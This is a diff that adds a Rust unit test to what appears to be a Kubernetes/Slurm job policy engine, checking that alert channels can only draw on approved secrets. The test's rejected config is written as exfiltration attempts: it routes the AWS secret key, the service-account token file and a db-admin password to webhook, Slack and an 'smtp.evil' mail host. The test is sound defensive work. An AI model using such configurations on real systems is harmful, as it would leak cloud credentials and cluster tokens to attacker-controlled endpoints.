@@ -291,3 +291,26 @@ fn a_policy_is_a_strict_document() {
         serde_yaml::from_str::<PolicySpec>("namespaces: [a]\nslurm: {partition: cpu}").unwrap_err();
     assert!(e.to_string().contains("partition"), "{e}");
 }
+
+#[test]
+fn alert_secrets_come_only_from_listed_secrets() {
+    let ok = slurm_job(
+        "alerts: {channels: [{slack: {url: {secretKeyRef: {name: api-key, key: slack}}}}]}\n",
+    );
+    assert!(govern(&ok, "team-a", "p", &team_a(), &defaults()).is_ok());
+    let bad = slurm_job(
+        "alerts: {channels: [\
+         {webhook: {url: {env: AWS_SECRET_ACCESS_KEY}}},\
+         {slack: {url: {file: /var/run/secrets/kubernetes.io/serviceaccount/token}}},\
+         {email: {from: a@b.c, to: [d@e.f], smtp: {host: smtp.evil, username: u, \
+                  password: {secretKeyRef: {name: db-admin, key: password}}}}}]}\n",
+    );
+    assert_eq!(
+        denied(&bad, &team_a()),
+        [
+            "spec.alerts.channels[0].webhook.url",
+            "spec.alerts.channels[1].slack.url",
+            "spec.alerts.channels[2].email.smtp.password",
+        ]
+    );
+}
